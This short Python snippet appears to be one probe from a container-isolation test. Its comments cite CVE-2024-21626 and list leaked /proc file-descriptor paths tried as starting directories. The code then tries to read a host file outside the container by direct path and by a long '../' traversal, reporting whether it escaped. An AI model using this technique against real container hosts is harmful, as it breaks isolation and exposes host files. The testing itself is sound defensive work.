# tried: starts in `/proc/self/fd/N`, a descriptor that a runtime left open (CVE-2024-21626)
# wall: PID 1 resolves directories itself and has no descriptor of the host
# cwd: /proc/self/fd/7 /proc/self/fd/3 /proc/self/fd/4 /proc/self/fd/5 /proc/self/fd/6 /proc/self/fd/8 /proc/self/fd/9 /proc/self/fd/10 /proc/1/fd/3 /proc/1/fd/7
# control: room leak
for path in ("outside", "../" * 30 + TARGET["outside"].lstrip("/")):
    try:
        with open(path) as file:
            report(True, file.read().strip())
    except OSError:
        pass
report(False, f"started in {os.getcwd()}")
